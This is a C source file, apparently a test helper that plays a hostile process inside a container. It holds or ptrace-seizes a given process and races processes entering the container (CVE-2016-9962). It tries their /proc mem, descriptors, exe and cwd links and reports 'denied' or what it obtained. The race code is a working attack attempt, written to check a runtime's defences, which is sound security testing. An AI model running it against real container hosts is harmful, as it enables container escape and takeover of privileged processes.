// What a hostile process of a container does.
//
//	hostile trace PID
//
// traces a process and never lets go of it.
//
//	hostile race
//
// waits for processes that come into the container from outside and tries to get at them before they have executed their
// command (CVE-2016-9962). It writes a line for each try that fell into that time: "denied" or what it got.

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[64];

static const char *of(int pid, const char *what)
{
	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	return path;
}

// joins tells whether the process is one that comes in and has not executed its command: its name changes then.
static int joins(int pid)
{
	char name[32] = "";
	int fd = open(of(pid, "comm"), O_RDONLY);

	if (fd < 0)
		return 0;
	if (read(fd, name, sizeof(name) - 1) < 0)
		name[0] = 0;
	close(fd);
	return !strcmp(name, "criserver-exec\n");
}

static const char *try_once(int pid)
{
	char target[64];
	const char *got = "denied";
	int fd = open(of(pid, "mem"), O_RDWR);
	DIR *dir = opendir(of(pid, "fd"));

	if (fd >= 0)
		got = "its memory", close(fd);
	if (dir) {
		if (readdir(dir))
			got = "its descriptors";
		closedir(dir);
	}
	if (readlink(of(pid, "exe"), target, sizeof(target)) >= 0)
		got = "its program";
	if (readlink(of(pid, "cwd"), target, sizeof(target)) >= 0)
		got = "its directory";
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		got = "it traced";
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, 0, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	return got;
}

static void race(void)
{
	int next = getpid() + 1;

	for (;;) {
		int pid = next;

		while (pid < next + 8 && access(of(pid, "comm"), F_OK)) // one or two may have gone unseen
			pid++;
		if (pid == next + 8)
			continue;
		next = pid + 1;
		while (joins(pid)) {
			const char *got = try_once(pid);

			if (joins(pid))
				printf("%s\n", got);
		}
	}
}

int main(int count, char **args)
{
	setvbuf(stdout, 0, _IOLBF, 0);
	if (count == 3 && ptrace(PTRACE_SEIZE, atoi(args[2]), 0, 0)) {
		perror("trace");
		return 1;
	}
	printf("ready\n");
	if (count == 2)
		race();
	pause();
}
